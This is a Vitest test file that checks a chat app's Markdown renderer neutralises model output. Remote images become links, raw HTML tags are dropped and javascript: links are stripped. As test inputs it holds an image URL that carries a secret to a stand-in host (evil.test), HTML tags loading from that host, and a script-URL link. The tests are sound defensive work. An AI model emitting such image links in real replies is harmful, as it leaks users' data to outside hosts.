// Markdown from the model and from workflows renders without loading anything from elsewhere.
import { renderToString } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/app/(chat)/_components/markdown";

const render = (text: string) => renderToString(<Markdown>{text}</Markdown>);

describe("rendered Markdown", () => {
  it("turns a remote image into a link instead of loading it", () => {
    const html = render("Report: ![chart of secrets](https://evil.test/c.png?d=s3cr3t)");
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('href="https://evil.test/c.png?d=s3cr3t"');
    expect(html).toContain('rel="noreferrer noopener"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain("🖼 chart of secrets");
  });

  it("names an image without alt text", () => {
    expect(render("![](https://evil.test/x.png)")).toContain("🖼 image");
  });

  it("does not render raw HTML, so no tag can load a resource", () => {
    const html = render(
      '<img src="https://evil.test/a.png"> <iframe src="https://evil.test"></iframe> <video src="https://evil.test/v"></video>',
    );
    expect(html).not.toMatch(/<(img|iframe|video)/i);
  });

  it("drops a script URL from a link", () => {
    expect(render("[click](javascript:alert(1))")).not.toContain("javascript:");
  });

  it("renders ordinary Markdown", () => {
    const html = render("**bold** and [docs](https://example.com)");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain('href="https://example.com"');
  });
});

describe("inline code in Markdown", () => {
  it("renders inline code as styled code without literal backticks", () => {
    const html = render("Run `fetch` first");
    expect(html).toMatch(/<code[^>]*data-inline-code[^>]*>fetch<\/code>/);
    expect(html).not.toContain("`");
    // The typography plugin puts backticks around <code> through ::before/::after.
    expect(html).toMatch(/<code[^>]*before:content-none[^>]*after:content-none/);
  });

  it("leaves a fenced block to the <pre> styling", () => {
    const html = render("```js\nconst a = 1;\n```");
    expect(html).toMatch(/<pre><code class="language-js">/);
    expect(html).not.toContain("data-inline-code");
  });
});
